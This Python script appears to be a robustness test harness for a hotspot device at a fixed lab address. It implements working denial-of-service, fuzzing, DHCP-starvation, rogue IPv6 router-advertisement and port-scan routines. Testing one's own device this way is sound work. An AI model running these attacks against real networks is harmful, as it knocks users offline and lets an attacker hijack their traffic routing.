"""Attacks on a hotspot: `python3 attacks.py ATTACK INTERFACE`, in the namespace of an attacker that has joined it.

Prints one line with the outcome. Standard library only.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
from collections.abc import Callable

DEVICE = "10.42.0.1"
BROADCAST = b"\xff" * 6


def connections(interface: str) -> str:
    """Open 500 connections to the portal, each with half a request, and keep them until the input ends."""
    opened: list[socket.socket] = []
    for _ in range(500):
        try:
            connection = socket.create_connection((DEVICE, 80), timeout=2)
            connection.sendall(b"GET / HTTP/1.1\r\nHost: 10.42.0.1\r\nX: ")
            opened.append(connection)
        except OSError:
            pass
    print(f"{len(opened)} opened", flush=True)
    sys.stdin.read()
    return "released"


def http_garbage(interface: str) -> str:
    """Send what is not HTTP; count the connections that are closed."""
    texts = [
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500), b"\0" * 5000, b"GET " + b"A" * 100_000,
        b"GET / HTTP/9.9\r\n\r\n", b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999\r\n\r\n",
        b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 20_000 + b"\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\xff" * 5000,
        b"POST /save HTTP/1.1\r\nHost: 10.42.0.1\r\nTransfer-Encoding: chunked\r\n\r\nZZZ\r\n",
    ]  # fmt: skip
    ended = 0
    for text in texts:
        with socket.create_connection((DEVICE, 80), timeout=20) as connection:
            try:
                connection.sendall(text)
                while connection.recv(65536):
                    pass
                ended += 1
            except ConnectionError:
                ended += 1
            except TimeoutError:
                pass
    return f"{ended} of {len(texts)} were ended"


def dns_garbage(interface: str) -> str:
    """Send 3,000 datagrams of random bytes to the name server."""
    chance = random.Random(1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        for _ in range(3000):
            sender.sendto(chance.randbytes(chance.randrange(1, 700)), (DEVICE, 53))
    return "sent"


def dns_size(interface: str) -> str:
    """Ask for every type of a name; print how much larger the largest answer is than its question."""
    largest = 0.0
    for kind in (1, 2, 5, 6, 12, 15, 16, 28, 33, 43, 48, 255):
        question = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\4bank\7example\0" + struct.pack("!HH", kind, 1)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.settimeout(3)
            sender.sendto(question, (DEVICE, 53))
            try:
                largest = max(largest, len(sender.recv(65536)) / len(question))
            except TimeoutError:
                pass
    return f"{largest:.2f}"


def _frame(mac: bytes, payload: bytes) -> bytes:
    """Return a broadcast from 0.0.0.0 to the DHCP server."""
    udp = struct.pack("!HHHH", 68, 67, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, bytes(4), b"\xff" * 4)
    total = sum(struct.unpack("!10H", head))
    total = (total & 0xFFFF) + (total >> 16)
    head = head[:10] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + head[12:]
    return BROADCAST + mac + b"\x08\x00" + head + udp


def _send_frames(interface: str, payloads: list[bytes]) -> str:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
        sender.bind((interface, 0))
        mac = sender.getsockname()[4]
        for payload in payloads:
            sender.send(_frame(mac, payload))
    return "sent"


def dhcp_exhaustion(interface: str) -> str:
    """Request addresses for 600 invented computers."""
    payloads = []
    for number in range(600):
        mac = b"\x02\xaa" + number.to_bytes(4, "big")
        head = struct.pack("!BBBBIHH", 1, 1, 6, 0, number, 0, 0x8000) + bytes(16) + mac + bytes(10) + bytes(192)
        for kind in (b"\x01", b"\x03"):
            request = b"" if kind == b"\x01" else b"\x32\x04\x0a\x2a\x00" + bytes([number % 250 + 2])
            payloads.append(head + b"\x63\x82\x53\x63\x35\x01" + kind + request + b"\xff")
    return _send_frames(interface, payloads)


def dhcp_garbage(interface: str) -> str:
    """Send 2,000 datagrams of random bytes, half with a correct beginning, to the DHCP server."""
    chance = random.Random(2)
    begin = struct.pack("!BBBB", 1, 1, 6, 0) + bytes(232) + b"\x63\x82\x53\x63"
    return _send_frames(
        interface, [(begin if number % 2 else b"") + chance.randbytes(chance.randrange(300)) for number in range(2000)]
    )


def advertisement(interface: str) -> str:
    """Announce itself as the IPv6 router of the network, 20 times."""
    message = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    message += struct.pack(
        "!BBBBIII16s", 3, 4, 64, 0xC0, 3600, 3600, 0, socket.inet_pton(socket.AF_INET6, "2001:db8::")
    )
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as sender:
        index = socket.if_nametoindex(interface)
        sender.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        for _ in range(20):
            sender.sendto(message, ("ff02::1", 0, 0, index))
    return "sent"


def ports(interface: str) -> str:
    """Print the TCP ports of the device that accept connections."""
    accepted = []
    for port in (*range(1, 1025), 4772, 8080, 8090, 9999, 34567):
        with socket.socket() as connection:
            connection.settimeout(0.3)
            if connection.connect_ex((DEVICE, port)) == 0:
                accepted.append(port)
    return " ".join(map(str, accepted))


ATTACKS: dict[str, Callable[[str], str]] = {
    function.__name__: function
    for function in (
        connections, http_garbage, dns_garbage, dns_size, dhcp_exhaustion, dhcp_garbage, advertisement, ports,
    )
}  # fmt: skip

if __name__ == "__main__":
    print(ATTACKS[sys.argv[1]](sys.argv[2]), flush=True)
